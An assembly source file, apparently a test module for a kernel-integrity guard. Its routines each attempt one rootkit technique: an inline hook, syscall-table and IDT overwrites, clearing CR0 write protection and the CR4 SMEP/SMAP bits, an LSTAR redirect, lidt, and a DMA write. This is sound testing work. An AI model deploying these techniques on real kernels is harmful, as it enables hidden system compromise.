# The rootkit: a module whose routines each do one thing that a guarded kernel must not let happen.
#
# A module is linked against the running kernel, so kernel symbols appear as 64-bit addresses and are called through a
# register. The one store (or load, jump, register write) that matters in each routine has an entry in the module's
# exception table: where the answer is an injected exception, the routine ends at its `fail` label with -EFAULT.

    .section .module.text, "ax"

.macro KADDR symbol reg
    movabsq $\symbol, \reg
.endm

.macro KCALL symbol
    movabsq $\symbol, %rax
    call *%rax
.endm

.macro GUARD insn fixup
    EXTABLE \insn, \fixup, __module_ex_table
.endm

.macro PROLOGUE
    pushq %rbx
    pushq %r12
    pushq %r13
    incq evil_serial(%rip)
.endm

# Both ends of a routine: 0, and -EFAULT after a fault.
.macro EPILOGUE
    xorl %eax, %eax
    jmp 91f
90: movq $-EFAULT, %rax
91: popq %r13
    popq %r12
    popq %rbx
    ret
.endm

# A jump to evil_schedule over the instructions after schedule's ftrace NOP: one store of eight bytes.
FUNC attack_inline_hook
    PROLOGUE
    KADDR schedule+5, %rbx
    leaq evil_schedule(%rip), %rcx
    subq %rbx, %rcx
    subq $5, %rcx
    movl %ecx, %ecx
    shlq $8, %rcx
    movabsq $0xcccccc00000000e9, %r12       # jmp rel32, int3, int3, int3
    orq %rcx, %r12
    movq %rbx, %rdi
    KCALL set_memory_rw
1:  movq %r12, (%rbx)
    GUARD 1b, 89f
    movq %rbx, %rdi
    KCALL set_memory_ro
    EPILOGUE
89: movq %rbx, %rdi
    KCALL set_memory_ro
    jmp 90b
ENDF attack_inline_hook

# getpid, through the direct map's alias of the table.
FUNC attack_syscall_hook
    PROLOGUE
    KADDR sys_call_table+__NR_getpid*8, %rdi
    KCALL lm_alias
    leaq evil_getpid(%rip), %rcx
1:  movq %rcx, (%rax)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_syscall_hook

# Eight bytes that begin four before the guarded object.
FUNC attack_straddle
    PROLOGUE
    KADDR guarded_object-4, %rbx
    movabsq $0x4141414141414141, %rcx
    movb evil_serial(%rip), %cl
1:  movq %rcx, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_straddle

# Thirty-two bytes of text by a string instruction.
FUNC attack_rep_movs
    PROLOGUE
    KADDR kernel_power_off+8, %rdi
    KCALL lm_alias
    movq %rax, %rdi
    leaq evil_code(%rip), %rsi
    movb evil_serial(%rip), %al
    movb %al, (%rsi)
    movl $4, %ecx
1:  rep movsq
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_rep_movs

# fork, by an exchange, which is locked whether it says so or not and leaves the old pointer in a register.
FUNC attack_xchg
    PROLOGUE
    KADDR sys_call_table+__NR_fork*8, %rbx
    movq %rbx, %rdi
    KCALL set_memory_rw
    leaq evil_fork(%rip), %r12
1:  xchgq %r12, (%rbx)
    GUARD 1b, 89f
    movq %r12, evil_original(%rip)
    movq %rbx, %rdi
    KCALL set_memory_ro
    EPILOGUE
89: movq %rbx, %rdi
    KCALL set_memory_ro
    jmp 90b
ENDF attack_xchg

# The gate of int 0x80: one store of sixteen bytes.
FUNC attack_idt_entry
    PROLOGUE
    leaq evil_int80(%rip), %rax
    KADDR idt_table+0x80*16, %rbx
    subq $16, %rsp
    movw %ax, (%rsp)
    movl $(0xee000000 | __KERNEL_CS), 2(%rsp)
    shrq $16, %rax
    movw %ax, 6(%rsp)
    shrq $16, %rax
    movq %rax, 8(%rsp)
    movdqu (%rsp), %xmm0
    addq $16, %rsp
1:  movdqu %xmm0, (%rbx)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_idt_entry

# Write protection off in CR0, a store into the read-only table, and on again.
FUNC attack_wp_clear
    PROLOGUE
    KADDR sys_call_table+62*8, %rbx
    leaq evil_fork(%rip), %r12
    movq %cr0, %rax
    btrq $CR0_WP_BIT, %rax
1:  movq %rax, %cr0
    GUARD 1b, 90f
2:  movq %r12, (%rbx)
    GUARD 2b, 89f
    movq %cr0, %rax
    btsq $CR0_WP_BIT, %rax
    movq %rax, %cr0
    EPILOGUE
89: movq %cr0, %rax
    btsq $CR0_WP_BIT, %rax
    movq %rax, %cr0
    jmp 90b
ENDF attack_wp_clear

# SMEP and SMAP off.
FUNC attack_smep_clear
    PROLOGUE
    movq %cr4, %rax
    andq $~(3 << CR4_SMEP_BIT), %rax
1:  movq %rax, %cr4
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_smep_clear

# Every system call through our own entry.
FUNC attack_lstar
    PROLOGUE
    leaq evil_entry_SYSCALL_64(%rip), %rax
    movq %rax, %rdx
    shrq $32, %rdx
    movl $MSR_LSTAR, %ecx
1:  wrmsr
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_lstar

# IDTR to a copy of the table.
FUNC attack_idtr
    PROLOGUE
    KADDR idt_table, %rsi
    leaq evil_idt(%rip), %rdi
    movq %rdi, (evil_idt_descr + 2)(%rip)
    movl $512, %ecx
    rep movsq
1:  lidt evil_idt_descr(%rip)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_idtr

# Run bytes that the kernel keeps as data.
FUNC attack_execute
    PROLOGUE
    KADDR data_code, %rbx
    movq %rbx, %rdi
    KCALL set_memory_x
    call *%rbx
    movq %rbx, %rdi
    KCALL set_memory_nx
    EPILOGUE
ENDF attack_execute

# Read what is guarded into a buffer of our own.
FUNC attack_read
    PROLOGUE
    KADDR guarded_object, %rbx
1:  movq (%rbx), %rax
    GUARD 1b, 90f
    movb evil_serial(%rip), %ah
    movq %rax, evil_loot(%rip)
    EPILOGUE
ENDF attack_read

# Sixteen bytes compared and exchanged: an instruction that KVM's emulator doesn't know.
FUNC attack_cmpxchg16b
    PROLOGUE
    KADDR guarded_object+8, %r13
    movq (%r13), %rax
    movq 8(%r13), %rdx
    movq evil_serial(%rip), %rbx
    movq %rax, %rcx
1:  lock cmpxchg16b (%r13)
    GUARD 1b, 90f
    EPILOGUE
ENDF attack_cmpxchg16b

# A value popped from the stack into the guarded object: the store isn't all that the instruction does.
FUNC attack_pop
    PROLOGUE
    KADDR guarded_object, %rbx
    movq %rsp, %r12
    pushq evil_serial(%rip)
1:  popq 24(%rbx)
    GUARD 1b, 89f
    movq %r12, %rsp
    EPILOGUE
89: movq %r12, %rsp
    jmp 90b
ENDF attack_pop

# exit's entry, by a device that copies memory: the one store that no processor makes.
FUNC attack_dma
    PROLOGUE
    KADDR dma_buffer, %rbx
    leaq evil_fork(%rip), %rcx
    movq %rcx, (%rbx)
    movq %rbx, %rdi
    KCALL __phys_addr
    movq %rax, 8(%rbx)
    KADDR sys_call_table+60*8, %rdi
    KCALL __phys_addr
    movq %rax, 16(%rbx)
    movq $8, 24(%rbx)
    leaq 8(%rbx), %rdi
    KCALL __phys_addr
    movl $DMA_PORT, %edx
    outl %eax, %dx
    EPILOGUE
ENDF attack_dma

    # Where the hooks lead.

FUNC evil_schedule
    incq evil_hits(%rip)
    pushq %rbp
    movq %rsp, %rbp
    pushq %r15
    pushq %r14
    KADDR .Lschedule_hookable_end, %r11
    jmp *%r11
ENDF evil_schedule

FUNC evil_getpid
    incq evil_hits(%rip)
    KADDR last_pid, %rcx
    movl $31337, %eax
    movq %rax, (%rcx)
    ret
ENDF evil_getpid

FUNC evil_fork
    incq evil_hits(%rip)
    KADDR sys_ni_syscall, %rax
    jmp *%rax
ENDF evil_fork

FUNC evil_int80
    iretq
ENDF evil_int80

FUNC evil_entry_SYSCALL_64
    incq evil_hits(%rip)                    # no stack of the kernel's yet, and no register to spare
    jmp *evil_continue(%rip)
ENDF evil_entry_SYSCALL_64

    .section .module.data, "aw"

    .balign 8
OBJECT evil_serial
    .quad 0
OBJECT evil_hits
    .quad 0
evil_code:
    .fill 32, 1, 0xf1
evil_continue:
    .quad entry_SYSCALL_64
OBJECT evil_original
    .quad 0
OBJECT evil_loot
    .quad 0
evil_idt_descr:
    .word 256 * 16 - 1
    .quad 0
    .balign 16
OBJECT evil_idt
    .fill 256 * 16, 1, 0
ENDO evil_idt
